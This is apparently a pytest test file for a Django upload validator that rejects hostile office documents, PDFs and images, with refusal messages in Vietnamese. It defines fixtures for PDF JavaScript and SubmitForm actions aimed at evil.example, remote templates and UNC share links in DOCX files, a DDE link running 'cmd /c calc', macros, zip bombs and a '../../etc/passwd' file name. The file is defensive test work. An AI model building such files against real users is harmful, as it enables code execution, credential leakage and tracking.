"""evidence_file_check: a file is checked as what its extension claims. Every refusal names the
file and the reason in Vietnamese; the honest twin of each hostile file passes."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from scoring.services.evidence import evidence_file_check, storage_name
from tests.helpers import pdf_bytes, png_bytes, xlsx
from tests.scoring import hostile_files as h

REFUSED = {
    "pdf with document JavaScript": ("bao-cao.pdf", h.pdf_with_javascript, "chứa mã JavaScript"),
    "pdf opening with JavaScript": (
        "bao-cao.pdf",
        h.pdf_opening_with_javascript,
        "chứa mã JavaScript",
    ),
    "pdf page action JavaScript": (
        "bao-cao.pdf",
        h.pdf_with_page_action_javascript,
        "chứa mã JavaScript",
    ),
    "pdf with escaped names": (
        "bao-cao.pdf",
        h.pdf_with_hidden_javascript_name,
        "chứa mã JavaScript",
    ),
    "pdf launching a program": (
        "bao-cao.pdf",
        h.pdf_launching_a_program,
        "khởi chạy chương trình khác",
    ),
    "pdf with an embedded file": ("bao-cao.pdf", h.pdf_with_embedded_file, "đính kèm tệp"),
    "pdf with a password": ("bao-cao.pdf", h.pdf_with_password, "mật khẩu"),
    "pdf header only": ("bao-cao.pdf", lambda: b"%PDF-1.4 not a document", "không mở được"),
    "docx with vbaProject.bin": ("ke-hoach.docx", h.docx_with_vba_project, "chứa macro"),
    "docm renamed docx": ("ke-hoach.docx", h.docm_renamed_docx, "chứa macro"),
    "any PK file as docx": ("ke-hoach.docx", h.zip_renamed_docx, "không mở được"),
    "PK bytes as docx": ("ke-hoach.docx", lambda: b"PK\x03\x04 garbage", "không mở được"),
    "a workbook as docx": ("ke-hoach.docx", lambda: xlsx({"A": [[1]]}), "không mở được"),
    "zip with 6000 members": ("ke-hoach.docx", lambda: h.many_members_docx(6000), "bom nén"),
    "48 MiB of zeros in 50 KB": ("ke-hoach.docx", lambda: h.zip_bomb(48 * 1024**2), "bom nén"),
    "odt with a wrong mimetype": (
        "bien-ban.odt",
        lambda: h.odt_bytes("application/zip"),
        "không mở được",
    ),
    "odt with Basic macros": (
        "bien-ban.odt",
        lambda: h.odt_bytes(Basic__Standard__Module1_xml=b"<script:module/>"),
        "chứa macro",
    ),
    "a text document as ods": ("bang.ods", h.odt_bytes, "không mở được"),
    "doc with a Macros storage": (
        "to-trinh.doc",
        lambda: h.ole_file("WordDocument", "1Table", "Macros"),
        "chứa macro",
    ),
    "xls with _VBA_PROJECT_CUR": (
        "so-lieu.xls",
        lambda: h.ole_file("Workbook", "_VBA_PROJECT_CUR"),
        "chứa macro",
    ),
    "OLE2 header only": (
        "to-trinh.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200,
        "không mở được",
    ),
    "png declaring 10 gigapixels": (
        "anh.png",
        lambda: h.png_declaring(100_000, 100_000),
        "hơn 80 triệu điểm ảnh",
    ),
    "png with a broken checksum": (
        "anh.png",
        lambda: h.damaged_png(png_bytes((40, 40))),
        "không mở được",
    ),
    "jpeg header and noise": ("anh.jpg", lambda: b"\xff\xd8\xff\xe0 noise", "không mở được"),
    "docx with a remote template": (
        "ke-hoach.docx",
        h.docx_with_remote_template,
        "liên kết tới nội dung bên ngoài tệp (http://evil.example/t.dotm)",
    ),
    "docx with an external image": (
        "ke-hoach.docx",
        lambda: h.docx_with(
            {
                "word/_rels/document.xml.rels": h.relationships(
                    f'<Relationship Id="rId1" Type="{h.RELS}/image" '
                    'Target="file://///evil.example/share/a.png" TargetMode="External"/>'
                )
            }
        ),
        "Office sẽ tự tải nội dung này về khi mở tệp",
    ),
    "xlsx with an external link": (
        "so-lieu.xlsx",
        lambda: h.zip_with(
            xlsx({"A": [[1]]}),
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": h.relationships(
                    f'<Relationship Id="rId1" Type="{h.RELS}/externalLinkPath" '
                    'Target="\\\\evil.example\\share\\b.xlsx" TargetMode="external"/>'
                )
            },
        ),
        "nội dung bên ngoài tệp",
    ),
    "docx with an OLE object": (
        "ke-hoach.docx",
        lambda: h.docx_with({"word/embeddings/oleObject1.bin": h.ole_file("Ole10Native")}),
        "đối tượng nhúng (OLE)",
    ),
    "docx embedding a macro workbook": (
        "ke-hoach.docx",
        lambda: h.docx_with({"word/embeddings/Sheet1.xlsx": h.docm_renamed_docx()}),
        "chứa macro",
    ),
    "docx with a hyperlink to a network share": (
        "ke-hoach.docx",
        lambda: h.docx_with(
            {
                "word/_rels/document.xml.rels": h.relationships(
                    f'<Relationship Id="rId1" Type="{h.RELS}/hyperlink" '
                    'Target="file://evil.example/share/a.docx" TargetMode="External"/>'
                )
            }
        ),
        "liên kết tới địa chỉ bên ngoài tệp (file://evil.example/share/a.docx)",
    ),
    "docx with an altChunk stored under another name": (
        "ke-hoach.docx",
        lambda: h.docx_with(
            {
                "word/_rels/document.xml.rels": h.relationships(
                    f'<Relationship Id="rId1" Type="{h.RELS}/aFChunk" Target="part1.html"/>'
                ),
                "word/part1.html": b"<html><script>x</script></html>",
            }
        ),
        "altChunk",
    ),
    "docx with an OLE object stored elsewhere": (
        "ke-hoach.docx",
        lambda: h.docx_with(
            {
                "word/_rels/document.xml.rels": h.relationships(
                    f'<Relationship Id="rId1" Type="{h.RELS}/oleObject" Target="media/x.png"/>'
                ),
                "word/media/x.png": h.ole_file("Ole10Native"),
            }
        ),
        "đối tượng nhúng (OLE)",
    ),
    "docx with ActiveX": (
        "ke-hoach.docx",
        lambda: h.docx_with({"word/activeX/activeX1.bin": b"x"}),
        "điều khiển ActiveX",
    ),
    "docx with an altChunk": (
        "ke-hoach.docx",
        lambda: h.docx_with({"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<script>x</script>"}),
        "altChunk",
    ),
    "pdf with an XFA form": ("bao-cao.pdf", h.pdf_with_xfa_script, "biểu mẫu XFA"),
    "pdf submitting a form": (
        "bao-cao.pdf",
        lambda: h.pdf_opening_with(b"/S /SubmitForm /F (http://evil.example/)"),
        "gửi dữ liệu ra ngoài",
    ),
    "pdf importing data": (
        "bao-cao.pdf",
        lambda: h.pdf_opening_with(b"/S /ImportData /F (du-lieu.fdf)"),
        "gửi dữ liệu ra ngoài",
    ),
    "pdf opening a remote file": (
        "bao-cao.pdf",
        lambda: h.pdf_opening_with(b"/S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit]"),
        "mở một tệp khác",
    ),
    "pdf opening an embedded file": (
        "bao-cao.pdf",
        lambda: h.pdf_opening_with(b"/S /GoToE /T << /R /C /N (a.pdf) >>"),
        "mở một tệp khác",
    ),
    "pdf opening an address": (
        "bao-cao.pdf",
        lambda: h.pdf_opening_with(b"/S /URI /URI (http://evil.example/track)"),
        "tự mở một địa chỉ web",
    ),
    "pdf chaining to an address": (
        "bao-cao.pdf",
        lambda: h.pdf_opening_with(
            b"/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://e.x/) >>"
        ),
        "tự mở một địa chỉ web",
    ),
    "pdf page opening an address": (
        "bao-cao.pdf",
        h.pdf_page_opening_address,
        "tự mở một địa chỉ web",
    ),
    "pdf script outside the xref": (
        "bao-cao.pdf",
        h.pdf_with_unlisted_javascript,
        "ngoài bảng mục lục",
    ),
    "pdf script in an unlisted object stream": (
        "bao-cao.pdf",
        lambda: h.unlisted_object_stream(b"6 0 << /S /JavaScript /JS (app.alert(1)) >>"),
        "ngoài bảng mục lục",
    ),
    "pdf unlisted object stream in another filter": (
        "bao-cao.pdf",
        lambda: h.unlisted_object_stream(
            b"6 0 << /S /JavaScript >>".hex().encode() + b">", flate=False, filter_name=b"/AHx"
        ),
        "ngoài bảng mục lục",
    ),
    # OpenDocument: what the office suite fetches, pulls or runs on open.
    "odt with an image fetched from the web": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            content=h.odf_content(
                '<draw:frame><draw:image xlink:href="http://tracker.example/p.png"/></draw:frame>'
            )
        ),
        "liên kết tới nội dung bên ngoài tệp (http://tracker.example/p.png)",
    ),
    "odt with a section taken from another file": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            content=h.odf_content(
                '<text:section text:name="S"><text:section-source xlink:href="../bao-cao.odt"/>'
                "</text:section>"
            )
        ),
        "liên kết tới nội dung bên ngoài tệp (../bao-cao.odt)",
    ),
    "odt with a hyperlink to a network share": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            content=h.odf_content(
                '<text:p><text:a xlink:href="file://evil.example/share/a.odt">xem</text:a></text:p>'
            )
        ),
        "liên kết tới địa chỉ bên ngoài tệp (file://evil.example/share/a.odt)",
    ),
    "ods with a DDE link": (
        "bang.ods",
        lambda: h.odt_bytes(
            "application/vnd.oasis.opendocument.spreadsheet",
            content=h.odf_content(
                '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd"'
                ' office:dde-topic="/c calc" office:dde-item="A0"/></table:dde-link>'
                "</table:dde-links>"
            ),
        ),
        "DDE",
    ),
    "odt running a script when opened": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            content=h.odf_content(
                '<office:event-listeners><script:event-listener script:language="ooo:script" '
                'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main'
                '?language=Basic&amp;location=application"/></office:event-listeners>'
            )
        ),
        "macro hoặc mã lệnh",
    ),
    "odt with an OLE object": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            content=h.odf_content(
                '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'
            ),
            parts={"Object 1": h.ole_file("Ole10Native")},
        ),
        "đối tượng nhúng (OLE)",
    ),
    "odt encrypted with a password": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            parts={
                "META-INF/manifest.xml": b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path='
                b'"content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'
            }
        ),
        "mật khẩu",
    ),
    # Parsed only when it names something the checks look at; then it must parse.
    "odt whose content with a link is not XML": (
        "bien-ban.odt",
        lambda: h.odt_bytes(content=b"<office:document-content><a xlink:href='x'><unclosed>"),
        "không đọc được phần content.xml",
    ),
    # Legacy Office: embedded objects (the Equation Editor kind) and PowerPoint's own macros.
    "doc with an embedded object": (
        "to-trinh.doc",
        lambda: h.ole_file("WordDocument", "1Table", "_1234567890"),
        "đối tượng nhúng (OLE)",
    ),
    "xls with an embedded object": (
        "so-lieu.xls",
        lambda: h.ole_file("Workbook", "MBD0001A2B3"),
        "đối tượng nhúng (OLE)",
    ),
    "doc with a packaged file": (
        "to-trinh.doc",
        lambda: h.ole_file("WordDocument", "\x01Ole10Native"),
        "đối tượng nhúng (OLE)",
    ),
    "ppt with a VBA project": (
        "bai-trinh-bay.ppt",
        lambda: h.ppt_file(h.ppt_record(0x03FF, h.ppt_record(0x0400, b"\0" * 24), container=True)),
        "chứa macro",
    ),
    "ppt with an embedded object": (
        "bai-trinh-bay.ppt",
        lambda: h.ppt_file(h.ppt_record(0x1011, b"\0" * 64)),
        "đối tượng nhúng (OLE)",
    ),
    "small ppt with a VBA project": (
        "bai-trinh-bay.ppt",
        lambda: h.ppt_file(
            h.ppt_record(0x03FF, h.ppt_record(0x0400, b"\0" * 24), container=True), padding=50
        ),
        "chứa macro",
    ),
    "a Word file as ppt": (
        "bai-trinh-bay.ppt",
        lambda: h.ole_file("WordDocument", "1Table"),
        "không mở được",
    ),
}

ACCEPTED = {
    "pdf": ("bao-cao.pdf", pdf_bytes),
    "docx": ("ke-hoach.docx", h.docx_bytes),
    "xlsx": ("so-lieu.xlsx", lambda: xlsx({"Số liệu": [["Mã", "Giá trị"], ["A", 1]]})),
    "odt": ("bien-ban.odt", h.odt_bytes),
    "ods": ("bang.ods", lambda: h.odt_bytes("application/vnd.oasis.opendocument.spreadsheet")),
    "doc": ("to-trinh.doc", lambda: h.ole_file("WordDocument", "1Table")),
    "xls": ("so-lieu.xls", lambda: h.ole_file("Workbook")),
    "png": ("anh.png", png_bytes),
    "jpeg": ("anh.jpeg", h.jpeg_bytes),
    "docx with an internal hyperlink": ("ke-hoach.docx", h.docx_with_internal_hyperlink),
    # Reports cite laws by their web address; Word fetches nothing until the reader clicks.
    "docx with a web hyperlink": (
        "ke-hoach.docx",
        lambda: h.docx_with(
            {
                "word/_rels/document.xml.rels": h.relationships(
                    f'<Relationship Id="rId1" Type="{h.RELS}/hyperlink" '
                    'Target="https://thuvienphapluat.vn/" TargetMode="External"/>'
                )
            }
        ),
    ),
    "docx with a chart workbook": ("ke-hoach.docx", h.docx_with_chart_workbook),
    "pdf with a link annotation": ("bao-cao.pdf", h.pdf_with_a_link),
    "pdf written by hand": ("bao-cao.pdf", lambda: h.raw_pdf(b"")),
    "pdf with an unlisted object stream of plain objects": (
        "bao-cao.pdf",
        lambda: h.unlisted_object_stream(
            b"6 0 << /Type /Annot /Subtype /Text /Contents (Ghi chu) >>"
        ),
    ),
    "ppt": ("bai-trinh-bay.ppt", h.ppt_file),
    "small ppt (document in the mini stream)": (
        "bai-trinh-bay.ppt",
        lambda: h.ppt_file(padding=50),
    ),
    "odt with a web hyperlink, a bookmark link and its own picture": (
        "bien-ban.odt",
        lambda: h.odt_bytes(
            content=h.odf_content(
                '<text:p><text:a xlink:href="https://thuvienphapluat.vn/">Luật</text:a>'
                '<text:a xlink:href="#muc-2">Mục 2</text:a></text:p>'
                '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'
                '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
            ),
            parts={
                "Pictures/1.png": png_bytes(),
                "Object 1/content.xml": h.odf_content("<text:p>Biểu đồ</text:p>"),
            },
        ),
    ),
}


def upload(name, data):
    return SimpleUploadedFile(name, data)


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_hostile_or_false_file_is_refused_naming_it_and_the_reason(case):
    name, build, reason = REFUSED[case]
    with pytest.raises(ValidationError) as refused:
        evidence_file_check(upload(name, build()))
    message = " ".join(refused.value.messages)
    assert f"Tệp “{name}” bị từ chối" in message
    assert reason in message


def test_a_1_gib_zip_bomb_named_docx_is_refused_from_its_directory():
    bomb = h.zip_bomb(1024**3)
    assert len(bomb) < 6 * 1024 * 1024
    with pytest.raises(ValidationError, match="bom nén"):
        evidence_file_check(upload("bao-cao.docx", bomb))


@pytest.mark.parametrize("case", list(ACCEPTED))
def test_the_honest_file_of_each_kind_passes(case):
    name, build = ACCEPTED[case]
    checked = evidence_file_check(upload(name, build()))
    assert checked.content_type


def test_the_stored_name_is_random_and_keeps_only_the_extension():
    names = {storage_name("Báo cáo ../../etc/passwd .PDF") for _ in range(50)}
    assert len(names) == 50
    for name in names:
        stem, ext = name.rsplit(".", 1)
        assert ext == "pdf" and len(stem) == 32 and all(c in "0123456789abcdef" for c in stem)
